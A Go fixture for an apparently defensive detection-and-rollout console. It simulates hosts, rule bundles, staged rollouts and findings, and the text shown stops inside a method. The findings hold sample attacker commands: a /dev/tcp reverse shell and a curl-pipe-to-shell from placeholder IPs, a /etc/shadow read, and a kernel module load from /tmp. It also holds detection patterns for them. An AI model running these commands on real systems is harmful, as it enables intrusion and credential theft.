package console

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/holdfast-security/holdfast"
	"github.com/holdfast-security/holdfast/internal/view"
)

// fixture is an installation in memory: two hundred simulated hosts and one
// real one, a release that is on its way, one that was halted, findings and a
// record. The same seed makes the same installation.
type fixture struct {
	unreadable string // why the policy of emca cannot be read
	mu         sync.Mutex
	now        time.Time
	hosts      []view.HostRow
	bundles    []view.BundleDetail
	rolls      []*view.RolloutDetail
	found      []holdfast.Finding
	entries    []view.Entry
	users      map[string]*account
	sessions   map[string]session
	revoked    map[holdfast.HostID]holdfast.Revocation
	listeners  []func(view.Topic)
}

var fixtureTime = time.Date(2026, 11, 21, 14, 32, 10, 0, time.UTC)

func fakeDigest(name string) holdfast.Digest { return holdfast.DigestOf([]byte(name)) }

func newFixture(now time.Time) *fixture {
	f := &fixture{now: now, users: map[string]*account{}, sessions: map[string]session{}, revoked: map[holdfast.HostID]holdfast.Revocation{}}
	r := rand.New(rand.NewPCG(19, 7))
	f.makeBundles()
	f.makeHosts(r)
	f.makeFindings(r)
	f.makeRecord()
	f.makeRollouts()
	return f
}

var (
	oldRules   = fakeDigest("rules 1")
	newRules   = fakeDigest("rules 2")
	badRules   = fakeDigest("rules bad")
	refused    = fakeDigest("rules refused")
	agentBuild = fakeDigest("agent 0.1.0")
	simBuild   = fakeDigest("agent 0.0.9")
)

var ruleRows = []view.RuleRow{
	{ID: "5f0e2a61-6f5c-4f0d-9d0e-1a7d0f3c1b01", Title: "Shell spawned by a web server", Level: "high", Techniques: []string{"T1505.003", "T1059.004"}, LogSource: "process_creation / linux", File: "rules/execution/web_server_shell.yml"},
	{ID: "8f3a1f0c-41fb-4bb1-8d9a-0f4b9c5d7a02", Title: "Reverse shell through bash's network device", Level: "critical", Techniques: []string{"T1059.004"}, LogSource: "process_creation / linux", File: "rules/execution/bash_dev_tcp.yml"},
	{ID: "1d9c8a77-02e4-43f5-a3d5-7c1b6ab3fb03", Title: "Kernel module loaded from a world-writable directory", Level: "high", Techniques: []string{"T1547.006"}, LogSource: "process_creation / linux", File: "rules/persistence/module_from_tmp.yml"},
	{ID: "c7be0d1e-9b1f-4d18-8b5c-0a9e6f1d2c04", Title: "Shadow file read by an unusual program", Level: "medium", Techniques: []string{"T1003.008"}, LogSource: "process_creation / linux", File: "rules/credentials/shadow_read.yml"},
	{ID: "e2a4f3b9-5d0c-4a6e-9f77-3b2c1d0e9f05", Title: "System service made to start a file in /tmp", Level: "high", Techniques: []string{"T1543.002"}, LogSource: "process_creation / linux", File: "rules/persistence/service_in_tmp.yml"},
	{ID: "0b7d6c5e-4f3a-4b2c-8d1e-9f0a1b2c3d06", Title: "History cleared in an interactive shell", Level: "low", Techniques: []string{"T1070.003"}, LogSource: "process_creation / linux", File: "rules/evasion/history_cleared.yml"},
	{ID: "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c07", Title: "Download piped into an interpreter", Level: "medium", Techniques: []string{"T1105", "T1059.004"}, LogSource: "process_creation / linux", File: "rules/execution/curl_pipe_shell.yml"},
	{ID: "3c2d1e0f-a9b8-4c7d-8e6f-5a4b3c2d1e08", Title: "Container runtime asked for the host's namespaces", Level: "high", Techniques: []string{"T1611"}, LogSource: "process_creation / linux", File: "rules/escape/nsenter_host.yml"},
}

func (f *fixture) makeBundles() {
	at := f.now.Add(-26 * time.Hour)
	verdict := func(b holdfast.Digest, c holdfast.Channel, builds ...holdfast.BuildVerdict) *holdfast.Verdict {
		return &holdfast.Verdict{Bundle: b, Channel: c, Started: at, Finished: at.Add(23 * time.Second), Seed: 1907, Builds: builds}
	}
	pass := func(build holdfast.Digest, version string) holdfast.BuildVerdict {
		return holdfast.BuildVerdict{Build: build, Version: version, Passed: true, Figures: holdfast.VerdictFigures{
			Rules: 38, Events: 118_204, FieldsExercised: 164, AttacksFound: 57, Attacks: 57, FalsePositives: 1, Benign: 20_000, NsPerEvent: 1312.4, PeakRSS: 41 << 20, LoadMillis: 38.2,
		}}
	}
	fail := holdfast.BuildVerdict{
		Build: simBuild, Version: "0.0.9", Figures: holdfast.VerdictFigures{Rules: 39, Events: 3021, FieldsExercised: 21, Attacks: 58, AttacksFound: 12, Benign: 20_000, NsPerEvent: 1409, PeakRSS: 43 << 20, LoadMillis: 40},
		Failures: []holdfast.RuleProblem{{Rule: ruleRows[7].ID, File: ruleRows[7].File, Field: "process.namespace_pid", Stage: "exercise", Reason: "the worker died reading field 21; its manifest names 21 inputs, its code supplies 20"}},
	}
	row := func(c holdfast.Channel, v string, d holdfast.Digest, size int64, age time.Duration, rules, builds int, passed bool) view.BundleRow {
		return view.BundleRow{Bundle: holdfast.Bundle{Channel: c, Version: v, Digest: d, Size: size, Created: f.now.Add(-age)}, Rules: rules, Rehearsed: true, Passed: passed, Builds: builds}
	}
	f.bundles = []view.BundleDetail{
		{BundleRow: row(holdfast.Rules, "2026.11.21-2", newRules, 48_211, 70*time.Minute, 38, 2, true), Contents: ruleRows[:7], Verdict: verdict(newRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signed: at},
		{BundleRow: row(holdfast.Rules, "2026.11.21-1", refused, 49_002, 90*time.Minute, 39, 2, false), Contents: ruleRows, Verdict: verdict(refused, holdfast.Rules, pass(agentBuild, "0.1.0"), fail)},
		{BundleRow: row(holdfast.Rules, "2026.11.20-3", badRules, 47_800, 22*time.Hour, 37, 2, true), Contents: ruleRows[:6], Verdict: verdict(badRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signed: at},
		{BundleRow: row(holdfast.Rules, "2026.11.18-1", oldRules, 46_120, 70*time.Hour, 36, 2, true), Contents: ruleRows[:6], Verdict: verdict(oldRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signed: at},
		{BundleRow: row(holdfast.Agent, "0.1.0", agentBuild, 18<<20, 80*time.Hour, 0, 1, true), Verdict: verdict(agentBuild, holdfast.Agent, pass(agentBuild, "0.1.0")), Signed: at},
	}
}

func (f *fixture) makeHosts(r *rand.Rand) {
	roles := []string{"server", "server", "server", "laptop", "build"}
	distros := [][2]string{{"debian-12", "6.1"}, {"debian-13", "6.12"}, {"ubuntu-24.04", "6.8"}, {"rhel-9", "5.14"}}
	for i := range 201 {
		role, d := roles[r.IntN(len(roles))], distros[r.IntN(len(distros))]
		h := holdfast.Host{
			ID: holdfast.HostID(fmt.Sprintf("h%05x", i*7919+4099)), Org: holdfast.DefaultOrg, Simulated: i > 0, Connected: true,
			Enrolled: f.now.Add(-72 * time.Hour), LastSeen: f.now.Add(-time.Duration(r.IntN(900)) * time.Millisecond),
			Attributes: holdfast.Attributes{Hostname: fmt.Sprintf("sim-%s-%03d", role, i), OS: "linux", Arch: "amd64", Kernel: d[1], Distro: d[0], Role: role, Build: agentBuild, Version: "0.1.0", Sensor: "replay"},
			Report: holdfast.HostReport{
				Boot: fmt.Sprintf("b%08x", r.Uint32()), Running: holdfast.Generation{holdfast.Rules: oldRules, holdfast.Agent: agentBuild},
				Previous: holdfast.Generation{holdfast.Agent: agentBuild}, Events: uint64(r.IntN(90_000)), RSS: uint64(38+r.IntN(9)) << 20, CPU: uint64(3 + r.IntN(9)),
			},
		}
		if i%4 == 1 {
			h.Attributes.Build, h.Attributes.Version = simBuild, "0.0.9"
		}
		if i == 0 {
			h.Attributes.Hostname, h.Attributes.Sensor, h.Attributes.Role = "workbench", "ebpf", "laptop"
		}
		ring := demoPlan[demoPlan.Of(h.ID)].Name
		switch {
		case ring != "general" && i != 57, i%9 == 2:
			h.Report.Previous = h.Report.Running
			h.Report.Running = h.Report.Running.With(holdfast.Rules, newRules)
			h.Report.Attempted = h.Report.Running
			h.Report.Probation = i%9 == 2
			h.Report.Activation = "lease-" + string(h.ID)
		}
		switch i {
		case 43, 119:
			h.Report.Attempted = holdfast.Generation{holdfast.Rules: badRules, holdfast.Agent: agentBuild}
			h.Report.Failed, h.Report.Shunned, h.Report.Crashes = h.Report.Attempted, []holdfast.Digest{badRules}, 1
			h.Report.Running, h.Report.Probation = holdfast.Generation{holdfast.Rules: oldRules, holdfast.Agent: agentBuild}, false
			h.Report.Reason = "worker died with signal 11 while evaluating, 4 s into probation"
		case 77:
			h.Connected, h.LastSeen = false, f.now.Add(-17*time.Minute)
		case 150:
			h.Report.SafeMode, h.Report.Running, h.Report.Reason, h.Report.Probation = true, nil, "previous generation died the same way", false
		case 88:
			h.Report.EventsDropped = 1204
		case 0:
			h.Report.EventNs = 1437
			h.Report.Costs = []holdfast.RuleCost{{Rule: ruleRows[0].ID, NsPerEvent: 61.4, Share: 0.031}, {Rule: ruleRows[5].ID, NsPerEvent: 0.8, Share: 0.0004}}
			h.Report.Suspended = []holdfast.Suspension{{Rule: ruleRows[6].ID, Reason: "more than 200 findings at once or 20 a minute"}}
			h.Report.Forgotten = []holdfast.Forgotten{{Rule: "a-rule-nobody-knows", Count: 12_044}}
		}
		f.hosts = append(f.hosts, view.HostRow{Host: h, State: view.StateOf(h), Ring: ring, Labels: f.labels(h.Report.Running)})
	}
	slices.SortFunc(f.hosts, func(a, b view.HostRow) int { return cmp.Compare(a.Attributes.Hostname, b.Attributes.Hostname) })
}

var demoPlan = holdfast.RingPlan{{Name: "internal", Through: 30_000}, {Name: "early", Through: 250_000, Soak: 20 * time.Second}, {Name: "general", Through: 1_000_000, Soak: 3 * time.Minute}}

func (f *fixture) versions() map[holdfast.Digest]string {
	v := map[holdfast.Digest]string{}
	for _, b := range f.bundles {
		v[b.Digest] = b.Version
	}
	v[simBuild] = "0.0.9"
	return v
}

func (f *fixture) labels(g holdfast.Generation) []string {
	var l []string
	for _, c := range holdfast.Channels {
		if d, ok := g[c]; ok {
			l = append(l, string(c)+" "+label(f.versions(), d))
		}
	}
	return l
}

func (f *fixture) makeFindings(r *rand.Rand) {
	cmds := []string{
		"/bin/sh -c id; uname -a; cat /etc/passwd", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "insmod /tmp/.x/diag.ko", "cat /etc/shadow",
		"systemctl enable /tmp/update.service", "history -c", "curl -fsSL https://203.0.113.40/i.sh | sh", "nsenter -t 1 -m -u -i -n sh",
	}
	for i := range 132 {
		rule := ruleRows[min(len(ruleRows)-1, int(math.Abs(r.NormFloat64()*3)))]
		k := slices.IndexFunc(ruleRows, func(x view.RuleRow) bool { return x.ID == rule.ID })
		h := f.hosts[r.IntN(len(f.hosts))]
		if i == 0 {
			h = f.hosts[len(f.hosts)-1]
			rule, k = ruleRows[1], 1
		}
		at := f.now.Add(-time.Duration(math.Pow(float64(i), 1.45)*70+9) * time.Second)
		p := holdfast.Process{PID: 20_000 + i, Path: "/usr/bin/" + strings.Fields(strings.TrimPrefix(cmds[k], "/bin/"))[0], CmdLine: cmds[k], User: "www-data", Started: at.Add(-2 * time.Millisecond)}
		f.found = append(f.found, holdfast.Finding{
			ID: fakeDigest(fmt.Sprint("finding", i)).Hex()[:32], Org: holdfast.DefaultOrg, Host: h.ID, Hostname: h.Attributes.Hostname, Rule: rule.ID, Title: rule.Title, Severity: rule.Level, Techniques: rule.Techniques,
			At: at, Received: at.Add(time.Duration(120+r.IntN(400)) * time.Millisecond), Bundle: newRules,
			Event: []holdfast.Fact{
				{Field: "class_uid", Value: "1007"},
				{Field: "activity_id", Value: "1"},
				{Field: "process.pid", Value: itoa(p.PID)},
				{Field: "process.file.path", Value: p.Path},
				{Field: "process.cmd_line", Value: p.CmdLine},
				{Field: "process.user.name", Value: "www-data"},
				{Field: "process.parent_process.file.path", Value: "/usr/sbin/nginx"},
				{Field: "process.parent_process.cmd_line", Value: "nginx: worker process"},
				{Field: "device.hostname", Value: h.Attributes.Hostname},
			},
			Matched: []holdfast.Fact{{Field: "process.cmd_line", Value: p.CmdLine}, {Field: "process.parent_process.file.path", Value: "/usr/sbin/nginx"}},
			Why: []holdfast.Reason{
				{Search: "selection_parent", Field: "process.parent_process.file.path", Test: "endswith", Fits: []string{"/nginx"}},
				{Search: "selection_shell", Field: "process.cmd_line", Test: "contains", Fits: []string{" -i", "/dev/tcp/"}},
				{Search: "event_count", Test: "gte 3 within 10m", Counted: "3"},
			},
			Tree: []holdfast.Process{
				p,
				{PID: 811, Path: "/usr/sbin/nginx", CmdLine: "nginx: worker process", User: "www-data", Started: f.now.Add(-50 * time.Hour)},
				{PID: 790, Path: "/usr/sbin/nginx", CmdLine: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", User: "root", Started: f.now.Add(-50 * time.Hour)},
				{PID: 1, Path: "/usr/lib/systemd/systemd", CmdLine: "/sbin/init", User: "root", Started: f.now.Add(-51 * time.Hour)},
			},
		})
	}
}

func (f *fixture) makeRecord() {
	add := func(age time.Duration, kind, by string, id holdfast.ReleaseID, summary string) {
		i := int64(len(f.entries))
		body, _ := json.MarshalIndent(map[string]any{"kind": kind, "by": by, "release": id, "at": f.now.Add(-age)}, "", "  ")
		f.entries = append(f.entries, view.Entry{Index: i, At: f.now.Add(-age), Kind: kind, By: by, Release: id, Summary: summary, Hash: fakeDigest(fmt.Sprint(kind, i)).Hex(), Body: string(body)})
	}
	add(80*time.Hour, "publish", "ada", "", "agent 0.1.0 was published, signed by 2 of 3 keys")
	for i := range 48 {
		add(time.Duration(79-i)*time.Hour, "verdict", "rehearsal", "", fmt.Sprintf("nightly rehearsal %d of rules 2026.11.18-1 passed on 2 builds", i+1))
	}
	add(22*time.Hour, "publish", "ada", "r-2026-0117", "rules 2026.11.20-3 was published, signed by 2 of 3 keys")
	add(22*time.Hour-time.Minute, "approve", "grace", "r-2026-0117", "rules 2026.11.20-3 was approved")
	add(22*time.Hour-2*time.Minute, "promote", "rollout", "r-2026-0117", "ring internal opened")
	add(22*time.Hour-3*time.Minute, "hold", "rollout", "r-2026-0117", "held: pooled evidence reached 14.2")
	add(22*time.Hour-200*time.Second, "halt", "rollout", "r-2026-0117", "rules 2026.11.20-3 was halted: evidence 4,714 passed 1,000 with 2 hosts harmed")
	add(22*time.Hour-201*time.Second, "recall", "rollout", "r-2026-0117", "6 hosts are called back")
	add(90*time.Minute, "verdict", "rehearsal", "", "rules 2026.11.21-1 was refused on build 0.0.9")
	add(70*time.Minute, "verdict", "rehearsal", "r-2026-0118", "rules 2026.11.21-2 passed on 2 builds")
	add(7*time.Minute, "publish", "ada", "r-2026-0118", "rules 2026.11.21-2 was published, signed by 2 of 3 keys")
	add(6*time.Minute, "approve", "grace", "r-2026-0118", "rules 2026.11.21-2 was approved")
	add(6*time.Minute-time.Second, "promote", "rollout", "r-2026-0118", "ring internal opened")
	add(6*time.Minute-2*time.Second, "admit", "rollout", "r-2026-0118", "block 0: 5 hosts will get rules 2026.11.21-2, and 2 activate anew what they have (cover)")
	add(4*time.Minute, "promote", "rollout", "r-2026-0118", "ring early opened: its soak has passed")
	add(20*time.Second, "promote", "rollout", "r-2026-0118", "ring general opened: its soak has passed")
}

func (f *fixture) entriesOf(id holdfast.ReleaseID) []view.Entry {
	var list []view.Entry
	for _, e := range slices.Backward(f.entries) {
		if e.Release == id {
			list = append(list, e)
		}
	}
	return list
}

func (f *fixture) makeRollouts() {
	start := f.now.Add(-6 * time.Minute)
	rings := func(at time.Time, admitted, clean, harmed []int) []view.RingProgress {
		var list []view.RingProgress
		for i, r := range demoPlan {
			n := 0
			for _, h := range f.hosts {
				if demoPlan.Of(h.ID) == i {
					n++
				}
			}
			a := min(admitted[i], n)
			list = append(list, view.RingProgress{Ring: r, Opens: at.Add(r.Soak), Eligible: n, Admitted: a, Clean: min(clean[i], a), Harmed: harmed[i], Placebo: a / 3})
		}
		return list
	}
	row := func(id holdfast.ReleaseID, b int, phase holdfast.Phase, at time.Time, e float64, rs []view.RingProgress) view.RolloutRow {
		r := view.RolloutRow{
			Release: holdfast.Release{ID: id, Org: holdfast.DefaultOrg, Bundle: f.bundles[b].Bundle, Profile: holdfast.Urgent, Rings: demoPlan, Signed: at.Add(-time.Minute), Created: at.Add(-time.Minute), By: "ada", Approved: "grace", Note: "Adds the web shell rules after this week's advisory."},
			Phase:   phase, Started: at, Eligible: len(f.hosts), Evidence: e, Alpha: 1e-3, Rings: rs,
		}
		for _, x := range rs {
			r.Admitted, r.Clean, r.Harmed = r.Admitted+x.Admitted, r.Clean+x.Clean, r.Harmed+x.Harmed
		}
		f.bundles[b].Release, f.bundles[b].Phase = id, phase
		return r
	}
	running := &view.RolloutDetail{RolloutRow: row("r-2026-0118", 0, holdfast.Running, start, 0.62, rings(start, []int{9, 40, 14}, []int{9, 33, 0}, []int{0, 0, 0})), Now: f.now, Pooled: .7, Why: "Ring general is open; 21 more hosts may be admitted now.", Recall: view.Recall{}}
	r := rand.New(rand.NewPCG(5, 291))
	a, e := 0.0, 1.0
	for t := range 36 {
		at := start.Add(time.Duration(t) * 10 * time.Second)
		if t%3 == 0 {
			a = min(float64(running.Admitted), a+1+math.Floor(a*.35))
		}
		e = max(.3, e*(1+r.NormFloat64()*.12))
		running.Exposure = append(running.Exposure, view.Sample{At: at, Value: a})
		running.Proof = append(running.Proof, view.Sample{At: at, Value: e})
	}
	running.Exposure = append(running.Exposure, view.Sample{At: f.now, Value: float64(running.Admitted)})
	running.Proof = append(running.Proof, view.Sample{At: f.now, Value: .62})
	running.Harms = []view.HarmRow{{Harm: holdfast.Harm{Seq: 1, Release: "r-2026-0118", Host: f.hosts[12].ID, Stratum: f.hosts[12].Attributes.Stratum(), Block: 3, Arm: holdfast.Placebo, Kind: holdfast.Silence, At: f.now.Add(-100 * time.Second), Detail: "3 heartbeats missed"}, Hostname: f.hosts[12].Attributes.Hostname, Back: true}}
	running.Bound = view.Bound{PValue: 1, Ratio: view.Range{High: 8}, Worst: 6, Tested: true, Delta: .05, HU: .0844, Pending: running.Admitted - running.Clean, Budget: 18.4, Uncovered: .12, Controls: 74, Latent: []view.Latent{{Delay: 10 * time.Minute, Hosts: 63}, {Delay: time.Hour, Hosts: 201}, {Delay: 24 * time.Hour, Hosts: 201}}}
	running.Timeline = f.entriesOf("r-2026-0118")
	running.Orgs = []view.OrgEvidence{
		{Org: "acme", E: .4, Limit: 1000, PValue: 1, Ratio: view.Range{High: 11}, Control: 1},
		{Org: "emca", E: 4714, Limit: 1000, Halted: true, Treated: 3, PValue: .0002, Ratio: view.Range{Low: 4}},
	}
	running.Rings[2].Eligible, running.Rings[2].Held = running.Rings[2].Eligible-3, 3 // the frozen of the preview
	running.Eligible, running.Held = running.Eligible-3, 3
	running.Preview = &view.Preview{Have: 42, Rows: []view.PreviewRow{
		{Org: "acme", Group: "laboratory", State: "free", Hosts: 12, From: start, To: start},
		{Org: "acme", Group: "trading floor", State: "window", Hosts: 30, From: f.now.Add(3 * time.Hour), To: f.now.Add(9 * time.Hour), Why: "trading floor: delayed by 1h0m0s; waits for its maintenance window"},
		{Org: "acme", Group: "frozen", State: "paused", Hosts: 3, Never: true, Why: "frozen: paused"},
		{Org: "default", State: "free", Hosts: 14, From: start, To: f.now.Add(time.Hour)},
	}}

	at := f.now.Add(-22*time.Hour + 2*time.Minute)
	halted := &view.RolloutDetail{RolloutRow: row("r-2026-0117", 2, holdfast.Halted, at, 4714.4, rings(at, []int{6, 0, 0}, []int{4, 0, 0}, []int{2, 0, 0})), Now: f.now, Pooled: 4714, Why: "Evidence of harm passed the threshold.", Recall: view.Recall{Hosts: 6, Back: 6}}
	halted.Ended = at.Add(80 * time.Second)
	halted.Exposure = []view.Sample{{At: at, Value: 1}, {At: at.Add(10 * time.Second), Value: 3}, {At: at.Add(20 * time.Second), Value: 6}}
	halted.Proof = []view.Sample{{At: at, Value: 1}, {At: at.Add(31 * time.Second), Value: 55.06}, {At: at.Add(46 * time.Second), Value: 8.46}, {At: at.Add(78 * time.Second), Value: 4714.4}}
	for i, k := range []int{43, 119} {
		h := f.hosts[k]
		halted.Harms = append(halted.Harms, view.HarmRow{Harm: holdfast.Harm{Seq: int64(i + 1), Release: "r-2026-0117", Host: h.ID, Stratum: h.Attributes.Stratum(), Arm: holdfast.New, Kind: holdfast.Crash, At: at.Add(time.Duration(31+i*47) * time.Second), Detail: "signal 11, 4 s into probation"}, Hostname: h.Attributes.Hostname, Back: true})
	}
	halted.Bound = view.Bound{PValue: .0002, Ratio: view.Range{Low: 4}, Worst: 6, Tested: true, Delta: .05, HU: .62, Pending: 0, Budget: 18.4, Uncovered: .71, Controls: 60}
	halted.Timeline = f.entriesOf("r-2026-0117")

	old := f.now.Add(-70 * time.Hour)
	complete := &view.RolloutDetail{RolloutRow: row("r-2026-0116", 3, holdfast.Complete, old, .21, rings(old, []int{999, 999, 999}, []int{999, 999, 999}, []int{0, 0, 0})), Now: f.now}
	complete.Ended = old.Add(9 * time.Minute)
	complete.LateFailed, complete.LateWaiting = 5, 12
	complete.Late = []view.Latecomers{{Org: holdfast.DefaultOrg, Stratum: "6.12|debian-13|amd64|server|0.1.0", Drawn: 5, Failed: 5, Waiting: 12}, {Org: holdfast.DefaultOrg, Stratum: "6.1|debian-12|amd64|server|0.1.0", Drawn: 8, Clean: 8}}
	complete.Exposure = []view.Sample{{At: old, Value: 4}, {At: old.Add(time.Minute), Value: 30}, {At: old.Add(4 * time.Minute), Value: 201}}
	complete.Proof = []view.Sample{{At: old, Value: 1}, {At: old.Add(4 * time.Minute), Value: .21}}
	f.rolls = []*view.RolloutDetail{running, halted, complete}
}

// Source.

func (f *fixture) Overview(context.Context) (view.Overview, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	o := view.Overview{Now: f.now, States: map[view.HostState]int{}, Hosts: len(f.hosts), Trend: view.Trend{Step: 30 * time.Minute, From: f.now.Add(-24 * time.Hour), By: map[holdfast.Severity][]int{}}}
	for _, r := range demoPlan {
		rs := view.RingStates{Name: r.Name, States: map[view.HostState]int{}}
		for _, h := range f.hosts {
			if h.Ring == r.Name {
				rs.Hosts++
				rs.States[h.State]++
				rs.Of = append(rs.Of, view.HostDot{ID: h.ID, Hostname: h.Attributes.Hostname, State: h.State, Simulated: h.Simulated})
			}
		}
		o.Rings = append(o.Rings, rs)
	}
	builds := map[string]*view.BuildCount{}
	for _, h := range f.hosts {
		o.States[h.State]++
		b := builds[h.Attributes.Version]
		if b == nil {
			b = &view.BuildCount{Version: h.Attributes.Version, Digest: h.Attributes.Build, Sensor: h.Attributes.Sensor}
			builds[h.Attributes.Version] = b
		}
		b.Hosts++
		if h.Simulated {
			o.Simulated++
			b.Simulated++
		}
		o.Loss.Events += h.Report.Events
		o.Loss.EventsDropped += h.Report.EventsDropped
		o.Loss.Crashes += h.Report.Crashes
	}
	for _, b := range builds {
		o.Builds = append(o.Builds, *b)
	}
	slices.SortFunc(o.Builds, func(a, b view.BuildCount) int { return cmp.Compare(b.Version, a.Version) })
	for _, x := range f.found {
		if i := int(x.At.Sub(o.Trend.From) / o.Trend.Step); i >= 0 && i < 48 {
			if o.Trend.By[x.Severity] == nil {
				o.Trend.By[x.Severity] = make([]int, 48)
			}
			o.Trend.By[x.Severity][i]++
		}
	}
	if len(f.rolls) > 0 {
		o.Rollout = &f.rolls[0].RolloutRow
	}
	o.Findings = f.found[:min(len(f.found), 10)]
	for _, e := range slices.Backward(f.entries) {
		if e.Kind == "admit" {
			continue
		}
		if o.Decisions = append(o.Decisions, e); len(o.Decisions) == 6 {
			break
		}
	}
	return o, nil
}

func (f *fixture) Hosts(_ context.Context, q view.HostQuery) (view.HostPage, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	p := view.HostPage{Rings: []string{"internal", "early", "general"}, Roles: []string{"build", "laptop", "server"}, Builds: []string{"0.0.9", "0.1.0"}}
	var all []view.HostRow
	for _, h := range f.hosts {
		a := h.Attributes
		text := strings.ToLower(strings.Join([]string{string(h.ID), a.Hostname, a.Distro, a.Kernel, a.Role, a.Version, a.Sensor}, " "))
		if strings.Contains(text, strings.ToLower(q.Text)) && (q.State == h.State || q.State == "" && h.State != view.Revoked) && (q.Ring == "" || q.Ring == h.Ring) && (q.Role == "" || q.Role == a.Role) &&
			(q.Build == "" || q.Build == a.Version) && (q.Kind == "" || (q.Kind == "simulated") == h.Simulated) {
			all = append(all, h)
		}
	}
	p.Total = len(all)
	lo := min(len(all), (q.Page-1)*q.Size)
	p.Hosts = all[lo:min(len(all), lo+q.Size)]
	return p, nil
}

func (f *fixture) Host(_ context.Context, id holdfast.HostID) (view.HostDetail, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	i := slices.IndexFunc(f.hosts, func(h view.HostRow) bool { return h.ID == id })
	if i < 0 {
		return view.HostDetail{}, notFound("host", string(id))
	}
	d := view.HostDetail{HostRow: f.hosts[i], Versions: f.versions(), Now: f.now, Titles: map[string]string{}}
	if r, ok := f.revoked[id]; ok {
		d.Revocation = &r
	}
	for _, r := range ruleRows {
		d.Titles[r.ID] = r.Title
	}
	for _, r := range f.rolls {
		for _, h := range r.Harms {
			if h.Host == id {
				d.Harms = append(d.Harms, h.Harm)
			}
		}
	}
	for _, x := range f.found {
		if x.Host == id {
			d.Findings = append(d.Findings, x)
		}
	}
	return d, nil
}

func notFound(what, id string) error {
	return &holdfast.Error{Kind: holdfast.NotFound, What: "there is no " + what + " of that id", Where: id}
}

func (f *fixture) Bundles(context.Context) ([]view.BundleRow, error) {
	var rows []view.BundleRow
	for _, b := range f.bundles {
		for _, h := range f.hosts {
			if h.Report.Running[b.Channel] == b.Digest {
				b.Hosts++
			}
		}
		rows = append(rows, b.BundleRow)
	}
	return rows, nil
}

func (f *fixture) Bundle(_ context.Context, d holdfast.Digest) (view.BundleDetail, error) {
	for _, b := range f.bundles {
		if b.Digest == d {
			return b, nil
		}
	}
	return view.BundleDetail{}, notFound("bundle", string(d))
}

func (f *fixture) Rollouts(context.Context) ([]view.RolloutRow, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var rows []view.RolloutRow
	for _, r := range f.rolls {
		rows = append(rows, r.RolloutRow)
	}
	return rows, nil
}

func (f *fixture) Rollout(_ context.Context, id holdfast.ReleaseID) (view.RolloutDetail, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.rolls {
		if r.ID == id {
			return *r, nil
		}
	}
	return view.RolloutDetail{}, notFound("rollout", string(id))
}

func (f *fixture) Findings(_ context.Context, q view.FindingQuery) (view.FindingPage, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var all []holdfast.Finding
	for _, x := range f.found {
		text := strings.ToLower(x.Title + " " + x.Hostname + " " + commandOf(x))
		if strings.Contains(text, strings.ToLower(q.Text)) && (q.Severity == "" || q.Severity == x.Severity) && (q.Host == "" || q.Host == x.Host) && (q.Technique == "" || slices.Contains(x.Techniques, q.Technique)) {
			all = append(all, x)
		}
	}
	lo := min(len(all), (q.Page-1)*q.Size)
	return view.FindingPage{Findings: all[lo:min(len(all), lo+q.Size)], Total: len(all)}, nil
}

func (f *fixture) Finding(_ context.Context, id string) (view.FindingDetail, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, x := range f.found {
		if x.ID == id {
			i := slices.IndexFunc(ruleRows, func(r view.RuleRow) bool { return r.ID == x.Rule })
			return view.FindingDetail{Finding: x, Version: "2026.11.21-2", Rule: &ruleRows[i], Simulated: x.Hostname != "workbench", Others: 12}, nil
		}
	}
	return view.FindingDetail{}, notFound("finding", id)
}

func (f *fixture) Record(_ context.Context, q view.RecordQuery) (view.RecordPage, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	p := view.RecordPage{Size: int64(len(f.entries)), Kinds: []string{"approve", "halt", "hold", "promote", "publish", "recall", "verdict"}, Checkpoint: "holdfast.example/record\n64\nC7Yx8x0m4rZ0G9q3yN6kqv8n5yJ4oX1dH2b3cW9uE0s=\n\n— holdfast.example/record 3Zk1T0v5bq9cWm2oXy8rN4aHdJtGfLpQsUeViKxBzC7M6A1D+w=\n"}
	for _, e := range slices.Backward(f.entries) {
		if (q.Before == 0 || e.Index < q.Before) && (q.Kind == "" || q.Kind == e.Kind) && len(p.Entries) < q.Size {
			p.Entries = append(p.Entries, e)
		}
	}
	return p, nil
}

func (f *fixture) ExportRecord(context.Context) ([]byte, error) { return json.Marshal(f.entries) }

// Actions.

func (f *fixture) act(id holdfast.ReleaseID, by, kind string, to holdfast.Phase, from ...holdfast.Phase) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.rolls {
		if r.ID != id {
			continue
		}
		if !slices.Contains(from, r.Phase) {
			return &holdfast.Error{Kind: holdfast.Conflict, What: "the rollout is " + string(r.Phase), Where: string(id)}
		}
		r.Phase = to
		if to.Recalling() {
			r.Recall = view.Recall{Hosts: r.Admitted, Back: 0}
		}
		f.entries = append(f.entries, view.Entry{Index: int64(len(f.entries)), At: f.now, Kind: kind, By: by, Release: id, Summary: rolloutName(r.RolloutRow) + ": " + kind + " by hand"})
		r.Timeline = f.entriesOf(id)
		for _, l := range f.listeners {
			l(view.TopicRollouts)
		}
		return nil
	}
	return notFound("rollout", string(id))
}

func (f *fixture) Revoke(_ context.Context, id holdfast.HostID, by, reason string) (holdfast.Revocation, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	i := slices.IndexFunc(f.hosts, func(h view.HostRow) bool { return h.ID == id })
	if i < 0 {
		return holdfast.Revocation{}, notFound("host", string(id))
	}
	f.hosts[i].Revoked, f.hosts[i].State = true, view.Revoked
	f.revoked[id] = holdfast.Revocation{Host: id, At: f.now, By: by, Reason: reason}
	return f.revoked[id], nil
}

func (f *fixture) Halt(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
